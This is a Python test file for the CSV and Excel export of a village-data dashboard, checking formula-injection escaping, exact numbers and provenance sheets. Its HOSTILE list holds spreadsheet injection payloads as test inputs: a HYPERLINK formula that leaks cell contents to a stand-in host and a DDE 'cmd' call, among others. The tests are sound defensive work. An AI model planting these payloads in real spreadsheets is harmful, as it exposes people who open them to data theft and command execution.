"""A downloaded table is safe to open, exact to compute with, and says what it is and where it is from."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from lib.domain.language import DEFAULT_LANGUAGE, LANGUAGES, set_language
from lib.export.tables.sheet import FORMULA_STARTS, MAX_COLUMN_WIDTH, safe_text, to_csv, to_xlsx
from lib.view.frame.selection import Selection
from lib.view.frame.tables import Column, TableDescription
from lib.view.indicator.map_table import describe_table
from lib.view.indicator.maps import describe_map

BOM = b"\xef\xbb\xbf"
RIGHT_TO_LEFT, ZERO_WIDTH = "\u202e", "\u200b"
HOSTILE = [
    '=HYPERLINK("http://contoh.test?x="&A1,"klik")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    'a,"b";=1',
    "baris satu\nbaris dua",
    f"{RIGHT_TO_LEFT}=1+1",
    f"{ZERO_WIDTH}nama",
    "Désa Way Ñuñyai 🌾",
    "https://contoh.test",
    "{=1+1}",
    "00018",
    "1e5",
    "TRUE",
    "'sudah",
    "",
]
texts = (
    st.sampled_from(HOSTILE) | st.text(max_size=40) | st.builds(str.__add__, st.sampled_from("=+-@\t\r\n＝"), st.text(max_size=9))
)
# What a spreadsheet file can hold without loss: six decimals, and whole numbers up to fifteen digits.
exact = st.integers(-(10**9), 10**9).map(lambda value: value / 10**6) | st.integers(-(10**14), 10**14).map(float)
numbers = exact | st.just(float("nan"))


@pytest.fixture(autouse=True)
def _indonesian():
    set_language(DEFAULT_LANGUAGE)
    yield
    set_language(DEFAULT_LANGUAGE)


def table_of(names, values=None, *, label="Nilai", contoh=False, jenis="angka", desimal=6) -> TableDescription:
    values = [1.0] * len(names) if values is None else values
    frame = pd.DataFrame({"nama": pd.Series(names, dtype=object), "nilai": pd.Series(values, dtype=float)})
    columns = (Column("nama", "Nama", "teks", "Desa"), Column("nilai", label, jenis, "Uraian", desimal))
    return TableDescription("Judul tabel", "Isi tabel", columns, frame, "Sumber: Dinas.", contoh, "tabel")


def csv_rows(table: TableDescription) -> list[list[str]]:
    content = to_csv(table)
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def workbook(table: TableDescription, **options):
    return load_workbook(io.BytesIO(to_xlsx(table)), **options)


@given(names=st.lists(texts, min_size=1, max_size=6), label=texts)
@example(names=HOSTILE, label="=1+1")
def test_no_cell_of_a_csv_is_a_formula(names, label):
    rows = csv_rows(table_of(names, label=label))
    assert len(rows) == len(names) + 1
    for row in rows:
        assert len(row) == 2
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
    for (cell, _value), name in zip(rows[1:], names, strict=True):
        # The name is all there, at most with an apostrophe before it.
        assert cell in (name, f"'{name}")
        assert (cell == f"'{name}") == name.startswith(FORMULA_STARTS)


@settings(max_examples=40)
@given(names=st.lists(texts, min_size=1, max_size=6), label=texts)
@example(names=HOSTILE, label="=1+1")
def test_no_cell_of_a_workbook_is_a_formula_a_link_or_a_number_that_was_text(names, label):
    book = workbook(table_of(names, label=label, contoh=True))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "inlineStr")
                assert cell.hyperlink is None
    cells = [row[0].value for row in book.worksheets[0].iter_rows(min_row=2)]
    # Control characters are written in the format's own escapes, which the reader leaves in place.
    assert [unescape(cell or "") for cell in cells] == names


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_every_start_of_a_formula_is_known(start):
    assert safe_text(f"{start}1") == f"'{start}1"
    assert safe_text(f"a{start}1") == f"a{start}1"


@given(values=st.lists(numbers, min_size=1, max_size=20))
def test_numbers_come_back_exactly_from_csv(values):
    rows = csv_rows(table_of(["x"] * len(values), values))
    back = [float(cell) if cell else float("nan") for _name, cell in rows[1:]]
    np.testing.assert_array_equal(back, values)


@settings(max_examples=40)
@given(values=st.lists(numbers, min_size=1, max_size=20))
def test_numbers_come_back_exactly_from_a_workbook_as_numbers(values):
    sheet = workbook(table_of(["x"] * len(values), values)).worksheets[0]
    back = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert not any(isinstance(value, str) for value in back)
    np.testing.assert_array_equal([float("nan") if value is None else float(value) for value in back], values)


@pytest.mark.parametrize("missing", [None, float("nan"), pd.NA, pd.NaT])
def test_an_absent_value_is_an_empty_cell(missing):
    table = table_of(["x", "y"])
    frame = table.frame.astype(object)
    frame.loc[1, "nilai"] = missing
    table = replace(table, frame=frame)
    assert csv_rows(table)[2] == ["y", ""]
    assert workbook(table).worksheets[0]["B3"].value is None


def test_a_negative_number_stays_a_number():
    table = table_of(["x"], [-0.05])
    assert csv_rows(table)[1] == ["x", "-0.05"]
    assert workbook(table).worksheets[0]["B2"].value == -0.05


@pytest.mark.parametrize(
    ("jenis", "desimal", "expected"),
    [
        ("jumlah", 0, "#,##0"),
        ("bagian", 0, "0.0%"),
        ("angka", 4, "#,##0.0000"),
        ("angka", 0, "#,##0"),
        ("selisih", 2, "#,##0.00"),
    ],
)
def test_a_column_of_a_workbook_is_formatted_as_on_the_screen(jenis, desimal, expected):
    sheet = workbook(table_of(["x"], [0.5], jenis=jenis, desimal=desimal)).worksheets[0]
    assert sheet["B2"].number_format == expected


@pytest.mark.parametrize("bahasa", LANGUAGES)
def test_the_source_sheet_says_what_it_is_and_where_it_is_from(bahasa):
    set_language(bahasa)
    data, source = workbook(table_of(["x"])).worksheets
    assert (data.title, source.title) == {"id": ("Data", "Sumber"), "en": ("Data", "Source")}[bahasa]
    told = dict(source.iter_rows(values_only=True))
    assert list(told.values())[:3] == ["Judul tabel", "Isi tabel", "Sumber: Dinas."]
    assert told["Nama"] == "Desa"
    assert told["Nilai"] == "Uraian"


@pytest.mark.parametrize("contoh", [True, False])
def test_the_illustrative_warning_travels_with_the_workbook(contoh):
    told = dict(workbook(table_of(["x"], contoh=contoh)).worksheets[1].iter_rows(values_only=True))
    assert ("Data contoh" in told) == contoh
    if contoh:
        assert "jangan dikutip sebagai data resmi" in told["Data contoh"]


def test_the_header_stays_in_sight_and_filters():
    sheet = workbook(table_of(["x", "y", "z"])).worksheets[0]
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == "A1:B4"
    assert all(cell.font.b for cell in sheet[1])


def test_a_long_text_neither_widens_the_column_without_end_nor_breaks_the_file():
    # A cell holds 32,767 characters; a longer text is cut by the format, not refused by the reader.
    sheet = workbook(table_of(["x" * 40_000])).worksheets[0]
    assert len(sheet["A2"].value) == 32_767
    assert sheet.column_dimensions["A"].width <= MAX_COLUMN_WIDTH + 1


def test_an_empty_table_is_a_header():
    table = table_of([])
    assert csv_rows(table) == [["Nama", "Nilai"]]
    assert [cell.value for cell in workbook(table).worksheets[0][1]] == ["Nama", "Nilai"]


@pytest.mark.parametrize(
    ("indikator", "level"),
    [("status", "desa"), ("status", "kabupaten"), ("mandiri", "kecamatan"), ("cakupan", "kecamatan"), ("perubahan", "kabupaten")],
)
def test_csv_workbook_and_screen_hold_the_same_values(indikator, level, figures, polygons):
    selection = Selection(2024, tingkat=level, indikator=indikator)
    table = describe_table(figures, describe_map(figures, selection, polygons))
    rows = csv_rows(table)
    sheet = workbook(table, read_only=True).worksheets[0]
    cells = list(sheet.iter_rows(values_only=True))
    assert len(rows) == len(cells) == len(table.frame) + 1
    assert rows[0] == list(cells[0]) == [column.label for column in table.kolom]
    for from_csv, from_xlsx, raw in zip(rows[1:], cells[1:], table.frame.itertuples(index=False, name=None), strict=True):
        for column, one, other, value in zip(table.kolom, from_csv, from_xlsx, raw, strict=True):
            if column.text(value) == "–":
                assert (one, other) == ("", None)
            elif column.jenis == "teks":
                assert one == other == value
            else:
                # Means have no last decimal: six are kept in text.
                assert column.text(float(one)) == column.text(float(other)) == column.text(value)


def test_the_file_of_illustrative_data_says_so_in_its_name_and_inside(figures, polygons):
    table = describe_table(figures, describe_map(figures, Selection(2024), polygons))
    assert table.nama_berkas.endswith("-contoh")
    assert "Data contoh" in dict(workbook(table).worksheets[1].iter_rows(values_only=True))


def test_the_same_table_gives_the_same_text_twice(figures, polygons):
    table = describe_table(figures, describe_map(figures, Selection(2024), polygons))
    assert to_csv(table) == to_csv(table)
